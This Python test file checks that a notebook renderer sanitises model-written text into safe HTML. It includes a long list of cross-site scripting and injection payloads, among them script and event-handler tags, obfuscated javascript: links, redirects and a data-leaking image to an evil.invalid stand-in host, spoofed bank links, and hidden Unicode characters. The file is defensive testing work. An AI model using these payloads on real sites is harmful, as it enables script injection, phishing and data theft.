"""The renderer and hostile text: whatever a model writes, the HTML holds only what is on our list."""

from __future__ import annotations

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from langswarm_nb.render import render_html
from tests.support.html import assert_safe

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.invalid"><input name=q><button>Go</button></form>',
    "<style>@import 'https://evil.invalid/x.css'; body{display:none}</style>",
    '<link rel=stylesheet href="https://evil.invalid/x.css"><base href="https://evil.invalid/">',
    '<meta http-equiv=refresh content="0;url=https://evil.invalid">',
    '<a href="javascript:alert(1)" id=jp-main class=jp-mod name=x data-command=run style="position:fixed">x</a>',
    "<template><p>x</template><object data=x></object><embed src=x><video poster=https://evil.invalid/p>",
    "</div></div></pre></td></table></textarea></title></noscript>--></script>",
    "<!-- <p> --> <![CDATA[ x ]]> <?php x ?> <!doctype html>",
    "<plaintext><xmp><listing><noframes><select><option>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:x) [d](data:text/html,<script>) [e](file:///etc)",
    "[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](javascript&colon;alert(1)) [d](\x01javascript:x)",
    "[a](//evil.invalid/x) [b](/api/contents) [c](#id) [d](../x) [e](http:evil.invalid) [f](http:///evil.invalid)",
    '[a](<javascript:alert(1)>) <javascript:alert(1)> [a](https://x.invalid/"onmouseover="alert(1)) [x](http://[)',
    "![x](https://evil.invalid/pixel.png?q=secret) ![x](data:image/svg+xml;base64,PHN2Zz4=) ![](x.png)",
    '![x](https://evil.invalid/"onerror="alert(1)) [![i](https://evil.invalid/i)](https://evil.invalid/t "a\'b\\"c")',
    "[x]: javascript:alert(1)\n\n[x] [y][x]\n\n[y]: https://evil.invalid 'hidden instructions'",
    "[https://bank.invalid](https://evil.invalid) [https://bank.invalid](https://bank.invalid@evil.invalid/)",
    '```html "onload=alert(1) class=x\n</code></pre><script>alert(1)</script>\n```',
    "~~~<script>alert(1)</script>\n</code></pre>\n~~~",
    "`</code><script>alert(1)</script>`",
    "| <script> | [a](javascript:x) |\n|:-:|--:|\n| <td onclick=x> | `|` |\n| a |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &#x3c;svg&#x3E; &NewLine;&Tab;&colon;&lpar;",
    "a &#x202e;b&#8238;c &#xE0041;&#917569; &#0; &#x1b;[2J &#xfe00;&#xfe01;",
    "\u202eright to left\u202c \u2066isolate\u2069 \u200f \u061c",
    "tags\U000e0068\U000e0069\U000e007f selectors a\ufe00\ufe01\ufe0f b\ufe0f c\U000e0100\U000e0101",
    "\x1b[2J\x1b]8;;https://evil.invalid\x07x\x9b31m\x00\x08\x7f\r over\rwritten \ud800 \udfff\ud83d",
    "$\\href{javascript:alert(1)}{x}$ $\\unicode{x202e}$ \\[\\require{html}\\class{a}{b}\\] $\\def\\x{\\x\\x}\\x$",
    "\\begin{align}\\href{javascript:alert(1)}{x}\\end{align} \\ref{x} $$\\style{color:red}{x}$$ \\(\\cssId{a}{b}\\)",
    "$$\n\\href{javascript:alert(1)}{x}\n$$\n\n\\[\n</div><script>alert(1)</script>\n\\]\n$</span><script>$",
    "> " * 24 + "deep <script>",
    "- " * 24 + "deep <script>",
    "".join("  " * depth + "- x\n" for depth in range(12)) + "<script>",
    "*a **b " * 12 + "<b>" + " b** a*" * 12,
    "1. a\n   > b\n   > ```\n   > </blockquote><script>\n2. c\n\n9999999999. d\n\n007. e",
    "# <h1>\n## [x](javascript:x) `</code>`\nsetext <b>\n===\n***\n<hr>\n---",
    "<https://evil.invalid/<script>> <a@b.invalid> <mailto:a@b.invalid?subject=<x>> <ftp://x> <x-y:z>",
    "\\<script> \\`x` \\[x](y) \\\\(a\\\\) \\$x\\$ \\\n\\<b>",
    '<p title="</p><script>alert(1)</script>">` ``` ~~~ $ $$ \\( \\[ ** __ ~~ | [ ![ ]( > - 1.',
    "\ufeff\u200b<script\u200b>\u2028alert(1)\u2029</script\u0085>\u00a0",
    "<img\x0csrc=x\x0bonerror=alert(1)\x1c>\x85<svg\u3000onload=x>",
]

markup = st.lists(
    st.sampled_from(
        [
            *HOSTILE,
            *"<>&\"'`*_~[]()!|\\$#-+=.:;/ \n\t\r",
            "\n\n",
            "```",
            "    ",
            "&#",
            "&lt;",
            "](",
            "![",
            "$$",
            "\\[",
            "</",
        ]
    )
    | st.text(max_size=5),
    max_size=12,
).map("".join)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("format", ["markdown", "text", "code", "json", "math"])
def test_hostile_text_becomes_only_what_is_on_the_list(text: str, format: str):
    """No element, attribute, class, address or hidden character of the model's gets through, in any format."""
    assert_safe(render_html(text, format=format))  # type: ignore[arg-type]


@pytest.mark.unmeasured
@pytest.mark.parametrize("text", HOSTILE)
def test_every_prefix_is_as_safe_as_the_whole(text: str):
    """A reply is shown while it streams, cut anywhere."""
    for html in {render_html(text[:end]) for end in range(len(text))}:
        assert_safe(html)


@pytest.mark.unmeasured
@given(markup | st.text())
@example("".join(HOSTILE))
@example("\n\n".join(HOSTILE))
@settings(max_examples=300)
def test_any_text_becomes_only_what_is_on_the_list(text: str):
    """What we did not think of is as harmless."""
    assert_safe(render_html(text))


@pytest.mark.unmeasured
@given(markup, st.data())
@settings(max_examples=200)
def test_a_mutated_attack_is_no_attack(text: str, data: st.DataObject):
    """Nor does cutting and splicing help."""
    start = data.draw(st.integers(0, len(text)))
    end = data.draw(st.integers(start, len(text)))
    assert_safe(render_html(text[:start] + data.draw(st.sampled_from(HOSTILE)) + text[end:]))
